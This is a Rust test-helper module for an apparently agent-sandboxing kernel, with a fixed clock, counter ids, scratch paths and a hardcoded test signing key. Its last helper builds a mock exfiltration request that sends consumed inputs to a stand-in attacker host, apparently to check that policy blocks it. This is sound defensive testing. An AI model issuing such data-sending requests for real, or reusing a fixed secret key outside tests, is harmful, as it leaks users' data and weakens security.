//! Helpers the file-backed tests share: a fixed clock, counter ids and scratch paths.
#![allow(dead_code, clippy::unwrap_used, reason = "each test file uses part of this; helpers fail loudly")]

use std::path::{Path, PathBuf};

use agentk_flightlog::kernel::{Clock, Entropy};

/// A clock stuck at 2026-01-01.
pub(crate) struct FixedClock;
impl Clock for FixedClock {
    fn now(&self) -> u64 {
        1_767_225_600
    }
}

/// Test ids from a counter, started at `self.0` so two runs can draw different ids.
pub(crate) struct Counter(pub(crate) u64);
impl Entropy for Counter {
    fn fill(&mut self, buf: &mut [u8]) {
        self.0 += 1;
        for (i, b) in buf.iter_mut().enumerate() {
            *b = (self.0 >> ((i % 8) * 8)) as u8;
        }
    }
}

/// A fresh path under the test target directory (`dir` keeps test files apart).
pub(crate) fn scratch(dir: &str, name: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(dir);
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    let _ = std::fs::remove_file(&path);
    path
}

/// The embedding tests' kernel: a deterministic TEST KEY, a fixed clock, counter ids, a fixed
/// log id and salt, over `policy`.
pub(crate) mod embedding {
    use std::sync::Arc;

    use agentk_capability::{SignerSource, SigningIdentity};
    use agentk_flightlog::builder::KernelBuilder;
    use agentk_flightlog::event::InputRef;
    use agentk_flightlog::kernel::{Kernel, SyscallRequest};
    use agentk_labels::Syscall;
    use agentk_policy::Profile;

    use super::{Counter, FixedClock};

    /// Deterministic test key. Never use it anywhere else.
    pub(crate) fn test_key() -> Arc<SigningIdentity> {
        Arc::new(SigningIdentity::from_secret(&[3; 32], SignerSource::Embedded))
    }

    /// The starter policy with `uses` for the docs-search grant.
    pub(crate) fn policy_with_uses(uses: u32) -> String {
        Profile::Starter.source().replace("uses = 10\n", &format!("uses = {uses}\n"))
    }

    pub(crate) fn builder(policy: &str, entropy_start: u64) -> KernelBuilder {
        Kernel::builder()
            .policy_text("test", policy)
            .signer(test_key())
            .clock(FixedClock)
            .entropy(Counter(entropy_start))
            .log_id([9; 32])
            .salt([4; 32])
            .origin("agentk-test.example.invalid")
    }

    /// A granted docs search consuming `inputs`.
    pub(crate) fn search(inputs: &[InputRef]) -> SyscallRequest<'_> {
        SyscallRequest::new("agent-1", Syscall::ToolInvoke, "mcp://docs.example.invalid/search")
            .consuming(inputs)
            .presenting("demo-docs-search")
    }

    /// A send to an attacker's host consuming `inputs`.
    pub(crate) fn exfiltrate(inputs: &[InputRef]) -> SyscallRequest<'_> {
        SyscallRequest::new("agent-1", Syscall::NetworkSend, "https://evil.example.invalid/collect").consuming(inputs)
    }
}
